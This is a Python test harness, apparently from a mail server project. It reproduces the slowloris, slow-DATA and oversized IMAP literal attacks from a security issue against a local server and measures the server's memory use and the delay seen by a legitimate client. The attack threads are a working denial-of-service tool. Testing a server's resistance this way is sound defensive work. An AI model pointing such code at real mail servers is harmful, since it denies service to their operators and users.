#!/usr/bin/env python3
"""Attack a running ringpost the way the security issue describes, and
measure what it costs the server: its resident memory, and how long a
legitimate client from another address waits meanwhile.

Usage: abuse.py PID SMTP_PORT IMAP_PORT ATTACK [N [RATE]]

PID is the server's process (its VmRSS is read from /proc). ATTACK is one of
  slowloris  N connections from 127.0.0.1 trickling one byte a second
  data      N connections from 127.0.0.1 sending the largest message slowly
            (RATE bytes a second each, default 64 KiB, never the final dot)
  literal   N IMAP connections announcing a 40 MiB literal before login
For 30 seconds it samples the server's RSS and times an SMTP session
(greeting to 250 of EHLO) from 127.0.0.2 every second, then prints one line
of JSON: peak and baseline RSS, connections held, the legitimate client's
worst latency, and how many attackers the server cut.
"""
import json
import socket
import sys
import threading
import time

PID, SMTP, IMAP, ATTACK = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
N = int(sys.argv[5]) if len(sys.argv) > 5 else 1000
RATE = int(sys.argv[6]) if len(sys.argv) > 6 else 65536
DURATION = 30


def rss_kib():
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def connect(port, source="127.0.0.1"):
    s = socket.socket()
    s.bind((source, 0))
    s.settimeout(10)
    s.connect(("127.0.0.1", port))
    return s


def read_line(s):
    data = b""
    while not data.endswith(b"\n"):
        chunk = s.recv(1)
        if not chunk:
            break
        data += chunk
    return data


def legit_latency():
    started = time.monotonic()
    try:
        s = connect(SMTP, "127.0.0.2")
        f = s.makefile("rb")
        if not f.readline().startswith(b"220"):
            return None
        s.sendall(b"EHLO friend.test\r\n")
        while True:
            line = f.readline()
            if not line or line.startswith(b"250 "):
                break
        s.sendall(b"QUIT\r\n")
        s.close()
        return time.monotonic() - started
    except OSError:
        return None


held = []
cut = 0
lock = threading.Lock()
stop = time.monotonic() + DURATION


def attacker(i):
    global cut
    try:
        if ATTACK == "literal":
            s = connect(IMAP)
            read_line(s)
            s.sendall(b"a LOGIN {41944040+}\r\n")
            s.sendall(b"x" * 65536)
        else:
            s = connect(SMTP)
            greeting = read_line(s)
            if not greeting.startswith(b"220"):
                with lock:
                    cut += 1
                return
            if ATTACK == "data":
                s.sendall(b"EHLO big.test\r\nMAIL FROM:<a@big.test>\r\nRCPT TO:<postmaster>\r\nDATA\r\n")
                for _ in range(4):
                    read_line(s)
        with lock:
            held.append(s)
        chunk = b"x" * RATE if ATTACK in ("data", "literal") else b"N"
        while time.monotonic() < stop:
            s.sendall(chunk)
            time.sleep(1)
    except OSError:
        with lock:
            cut += 1


base = rss_kib()
threads = [threading.Thread(target=attacker, args=(i,), daemon=True) for i in range(N)]
for t in threads:
    t.start()
peak, worst, failed = base, 0.0, 0
while time.monotonic() < stop:
    peak = max(peak, rss_kib())
    latency = legit_latency()
    if latency is None:
        failed += 1
    else:
        worst = max(worst, latency)
    time.sleep(1)
print(json.dumps({
    "attack": ATTACK,
    "attackers": N,
    "rate_per_attacker": RATE if ATTACK != "slowloris" else 1,
    "rss_base_mib": round(base / 1024, 1),
    "rss_peak_mib": round(peak / 1024, 1),
    "attackers_stalled_or_cut": cut,
    "legit_worst_latency_s": round(worst, 3),
    "legit_failed": failed,
}))
